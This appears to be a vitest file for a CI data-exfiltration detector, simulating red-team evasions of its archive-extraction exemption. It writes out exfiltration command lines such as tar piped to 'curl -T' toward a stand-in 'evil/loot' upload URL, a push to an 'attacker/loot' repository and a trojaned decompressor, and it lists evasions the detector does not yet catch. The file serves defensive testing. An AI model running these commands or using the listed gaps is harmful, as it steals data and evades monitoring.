/**
 * A red team's attempts on the archive-extraction exemption (../../../src/correlate/archive-extractions.ts): a data
 * set on a volume as an archive, extracted by a tar whose command line is that of a restore, then sent to a forge
 * by a tool whose own reads count. Each was `bulk-read-then-push`, high, before the exemption (the archive's read
 * counted) and lower with it; each is held here at high again.
 */
import { describe, expect, it } from 'vitest';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { brief, type Ctr, MiB, type Proc, run, type Scenario } from './builder.js';
import { GITHUB_IP, runnerPod } from './runner-job.js';

const WORK = '/home/runner/_work/web/web';
const DB = '/srv/exports/db.tar';
const UPLOAD = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d';
const LOOT = 'https://github.com/attacker/loot.git';
const SOURCES: SensorSource[] = ['tetragon', 'falco'];
const HIGH = (tool: string) => [`bulk-read-then-push high ${tool}`];

const rules = (s: Scenario) =>
  brief(run(s.events.sort((a, b) => a.timeMs - b.timeMs)).alerts).map((a) => `${a.rule} ${a.severity} ${a.tool}`);

/** `p` reads the archive, 180 MiB in 2 MiB reads. */
function readArchive(s: Scenario, p: Proc): void {
  for (let i = 0; i < 90; i++) s.read(p, DB, 2 * MiB, { op: 'read' }).wait(20);
}

/** `p` connects to GitHub and sends `mib` MiB. */
function sendToGitHub(s: Scenario, p: Proc, mib: number, cookie: string): void {
  s.connect(p, GITHUB_IP, 443, { cookie });
  for (let i = 0; i < mib / 2; i++) s.send(p, GITHUB_IP, 443, 2 * MiB, { cookie });
}

/** `git -C /tmp/x/repo push LOOT BRANCH`: its pack-objects maps `mib` MiB of the extracted pack and sends it. */
function pushExtractedRepo(s: Scenario, c: Ctr, parent: Proc, branch: string, mib: number): Proc {
  const push = s.exec(c, '/usr/bin/git', `-C /tmp/x/repo push ${LOOT} ${branch}`, { parent, cwd: WORK });
  const pack = s.exec(c, '/usr/bin/git', 'pack-objects --all-progress-implied --revs --stdout', { parent: push });
  s.read(pack, '/tmp/x/repo/.git/objects/pack/pack-1a2b.pack', mib * MiB, { op: 'map' }).exit(pack);
  const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', LOOT, { parent: push });
  return helper;
}

describe('a stream out of an extracting tar the command line does not show', () => {
  it.each(SOURCES)('TAR_OPTIONS=-O tar -xf db.tar | curl -T - (%s)', (source) => {
    // GNU tar prepends $TAR_OPTIONS to its arguments; the sensors show the command line only.
    const { s, c, worker } = runnerPod('web', source);
    const sh = s.exec(c, '/bin/sh', `-c "tar -xf ${DB} | curl -T - ${UPLOAD}"`, { parent: worker, cwd: WORK });
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB}`, { parent: sh, cwd: WORK });
    const curl = s.exec(c, '/usr/bin/curl', `-T - ${UPLOAD}`, { parent: sh, cwd: WORK });
    readArchive(s, tar);
    sendToGitHub(s, curl, 180, '7');
    s.wait(300).exit(tar).exit(curl).exit(sh);
    expect(rules(s)).toEqual(HIGH('curl'));
  });

  it.each(SOURCES)("TAR_OPTIONS='--to-command=curl -T - URL' tar -xf db.tar (%s)", (source) => {
    const { s, c, worker } = runnerPod('web', source);
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB}`, { parent: worker, cwd: WORK });
    const sh = s.exec(c, '/bin/sh', `-c "curl -T - ${UPLOAD}"`, { parent: tar });
    const curl = s.exec(c, '/usr/bin/curl', `-T - ${UPLOAD}`, { parent: sh });
    readArchive(s, tar);
    sendToGitHub(s, curl, 180, '7');
    s.wait(300).exit(curl).exit(sh).exit(tar);
    expect(rules(s)).toEqual(HIGH('curl'));
  });

  it.each(SOURCES)('TAR_OPTIONS=-O tar -xf db.tar | gzip | curl -T -: fewer bytes sent than read (%s)', (source) => {
    const { s, c, worker } = runnerPod('web', source);
    const line = `-c "tar -xf ${DB} | gzip | curl -T - ${UPLOAD}"`;
    const sh = s.exec(c, '/bin/sh', line, { parent: worker, cwd: WORK });
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB}`, { parent: sh, cwd: WORK });
    const gzip = s.exec(c, '/usr/bin/gzip', '', { parent: sh, cwd: WORK });
    const curl = s.exec(c, '/usr/bin/curl', `-T - ${UPLOAD}`, { parent: sh, cwd: WORK });
    readArchive(s, tar);
    sendToGitHub(s, curl, 30, '7');
    s.wait(300).exit(tar).exit(gzip).exit(curl).exit(sh);
    expect(rules(s)).toEqual(HIGH('curl'));
  });

  it.each(SOURCES)('a decompressor (by name, from /usr/local/bin) that pipes the archive to curl (%s)', (source) => {
    const { s, c, worker } = runnerPod('web', source);
    const args = `-xf ${DB} -C /tmp/x --use-compress-program unzstd`;
    const tar = s.exec(c, '/usr/bin/tar', args, { parent: worker, cwd: WORK });
    const unzstd = s.exec(c, '/usr/local/bin/unzstd', '-d', { parent: tar });
    const curl = s.exec(c, '/usr/bin/curl', `-T - ${UPLOAD}`, { parent: unzstd });
    readArchive(s, unzstd);
    sendToGitHub(s, curl, 180, '7');
    s.wait(300).exit(curl).exit(unzstd).exit(tar);
    expect(rules(s)).toEqual(HIGH('curl'));
  });
});

describe("a stream out of an extracting tar, compressed and staged: the push's bytes are fewer than the reads", () => {
  it.each(SOURCES)('TAR_OPTIONS=-O tar -xf db.tar | gzip > /tmp/d.gz, then curl -T /tmp/d.gz (%s)', (source) => {
    const { s, c, worker } = runnerPod('web', source);
    const sh = s.exec(c, '/bin/sh', `-c "tar -xf ${DB} | gzip > /tmp/d.gz"`, { parent: worker, cwd: WORK });
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB}`, { parent: sh, cwd: WORK });
    const gzip = s.exec(c, '/usr/bin/gzip', '', { parent: sh, cwd: WORK });
    readArchive(s, tar);
    s.exit(tar).exit(gzip).exit(sh);
    const curl = s.exec(c, '/usr/bin/curl', `-T /tmp/d.gz ${UPLOAD}`, { parent: worker, cwd: WORK });
    // gzip's reads of the pipe are none the sensors count; curl reads and sends the 30 MiB it wrote.
    s.read(curl, '/tmp/d.gz', 30 * MiB);
    sendToGitHub(s, curl, 30, '7');
    s.wait(300).exit(curl);
    expect(rules(s)).toEqual(HIGH('curl'));
  });

  it("a restore's tar after a command that has exited (`mkdir -p DIR && tar -xf …`) stays exempt", () => {
    const { s, c, worker } = runnerPod('web');
    const cache = '/home/runner/_work/_temp/6f1c-77/cache.tzst';
    const sh = s.exec(c, '/bin/sh', `-c "mkdir -p /tmp/r && tar -xf ${cache} -C /tmp/r"`, { parent: worker });
    const mkdir = s.exec(c, '/bin/mkdir', '-p /tmp/r', { parent: sh });
    s.wait(2).exit(mkdir);
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${cache} -C /tmp/r`, { parent: sh, cwd: WORK });
    for (let i = 0; i < 90; i++) s.read(tar, cache, 2 * MiB).wait(20);
    s.exit(tar).exit(sh);
    const url = 'https://github.com/acme/web.git';
    const push = s.exec(c, '/usr/bin/git', `push ${url} refs/tags/v1.4.0`, { parent: worker });
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', url, { parent: push });
    s.connect(helper, GITHUB_IP, 443, { cookie: '2' }).send(helper, GITHUB_IP, 443, 5_000, { cookie: '2' });
    s.wait(300).exit(helper).exit(push);
    expect(rules(s)).toEqual(['push-without-reads low git']);
  });
});

describe('extracted files read where reads count for nothing', () => {
  it.each(SOURCES)('extracted as a shared library under a noise prefix, then curl -T it (%s)', (source) => {
    const { s, c, worker } = runnerPod('web', source);
    const lib = '/usr/lib/x86_64-linux-gnu/libloot.so.1';
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB} -C /usr/lib/x86_64-linux-gnu`, { parent: worker, cwd: WORK });
    readArchive(s, tar);
    s.exit(tar);
    const curl = s.exec(c, '/usr/bin/curl', `-T ${lib} ${UPLOAD}`, { parent: worker, cwd: WORK });
    s.read(curl, lib, 180 * MiB);
    sendToGitHub(s, curl, 180, '7');
    s.wait(300).exit(curl);
    expect(rules(s)).toEqual(HIGH('curl'));
  });
});

describe('an extracted repository pushed in chunks', () => {
  it.each(SOURCES)('three git pushes of 60 MiB each: from the second on, the pushes add up (%s)', (source) => {
    const { s, c, worker } = runnerPod('web', source);
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB} -C /tmp/x`, { parent: worker, cwd: WORK });
    readArchive(s, tar);
    s.exit(tar);
    for (let k = 0; k < 3; k++) {
      const helper = pushExtractedRepo(s, c, worker, `b${k}`, 60);
      sendToGitHub(s, helper, 60, `c${k}`);
      s.wait(300).exit(helper).wait(2_000);
    }
    // The first chunk alone is 60 MiB (medium); the third, as grave as the second, is suppressed.
    expect(rules(s)).toEqual(['push-after-moderate-reads medium git', 'bulk-read-then-push high git']);
  });
});

describe('an extracted repository pushed through a proxy on the loopback', () => {
  it.each(SOURCES)("git's egress is its hook's ping: the extraction counts whole (%s)", (source) => {
    // `https_proxy=http://127.0.0.1:3128` (a proxy sidecar of the pod): git's bytes to it are no egress.
    const { s, c, worker } = runnerPod('web', source);
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB} -C /tmp/x`, { parent: worker, cwd: WORK });
    readArchive(s, tar);
    s.exit(tar);
    const helper = pushExtractedRepo(s, c, worker, 'main', 180);
    // A pre-push hook's request to another host is the push's only egress: a few hundred bytes.
    const hook = s.exec(c, '/usr/bin/curl', '-s https://example.org/ping', { parent: helper });
    s.connect(hook, '93.184.215.14', 443, { cookie: 'h' }).send(hook, '93.184.215.14', 443, 800, { cookie: 'h' });
    s.exit(hook).connect(helper, '127.0.0.1', 3128, { cookie: 'p' });
    for (let i = 0; i < 90; i++) s.send(helper, '127.0.0.1', 3128, 2 * MiB, { cookie: 'p' });
    s.wait(300).exit(helper);
    expect(rules(s)).toEqual(HIGH('git'));
  });

  it("the cloud's metadata service (link-local) is no proxy: a restore, then aws asking it, then a tag push", () => {
    const { s, c, worker } = runnerPod('web');
    const restore = '-xf /home/runner/_work/_temp/6f1c-77/cache.tzst -P -C /home/runner/_work/web/web';
    const tar = s.exec(c, '/usr/bin/tar', restore, { parent: worker, cwd: WORK });
    for (let i = 0; i < 90; i++) s.read(tar, '/home/runner/_work/_temp/6f1c-77/cache.tzst', 2 * MiB).wait(20);
    s.exit(tar);
    const url = 'https://github.com/acme/web.git';
    const push = s.exec(c, '/usr/bin/git', `push ${url} refs/tags/v1.4.0`, { parent: worker });
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', url, { parent: push });
    // Its credential helper asks the instance's metadata service for a token.
    s.connect(helper, '169.254.169.254', 80, { cookie: 'm' }).send(helper, '169.254.169.254', 80, 300);
    s.connect(helper, GITHUB_IP, 443, { cookie: '2' }).send(helper, GITHUB_IP, 443, 5_000, { cookie: '2' });
    s.wait(300).exit(helper).exit(push);
    expect(rules(s)).toEqual(['push-without-reads low git']);
  });
});

describe('open (not covered): data laundered where reads count for nothing, then compressed and staged', () => {
  /** curl uploads the 30 MiB staged file it reads. */
  function uploadStaged(s: Scenario, c: Ctr, parent: Proc): void {
    const curl = s.exec(c, '/usr/bin/curl', `-T /tmp/d.gz ${UPLOAD}`, { parent, cwd: WORK });
    s.read(curl, '/tmp/d.gz', 30 * MiB);
    sendToGitHub(s, curl, 30, '7');
    s.wait(300).exit(curl);
  }
  const MEDIUM = ['push-after-moderate-reads medium curl'];

  it('members extracted as a shared library under a noise prefix, gzip -c of it (its reads count for nothing)', () => {
    const { s, c, worker } = runnerPod('web');
    const lib = '/usr/lib/x86_64-linux-gnu/libloot.so.1';
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB} -C /usr/lib/x86_64-linux-gnu`, { parent: worker, cwd: WORK });
    readArchive(s, tar);
    s.exit(tar);
    const gzip = s.exec(c, '/usr/bin/gzip', `-c ${lib}`, { parent: worker, cwd: WORK });
    s.read(gzip, lib, 180 * MiB).exit(gzip);
    uploadStaged(s, c, worker);
    expect(rules(s)).toEqual(MEDIUM);
  });

  it('a decompressor replaced (root in the container) by one that writes the archive compressed elsewhere', () => {
    const { s, c, worker } = runnerPod('web');
    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB} -C /tmp/x -I unzstd`, { parent: worker, cwd: WORK });
    const unzstd = s.exec(c, '/usr/local/bin/unzstd', '-d', { parent: tar });
    readArchive(s, unzstd);
    s.exit(unzstd).exit(tar);
    uploadStaged(s, c, worker);
    expect(rules(s)).toEqual(MEDIUM);
  });
});
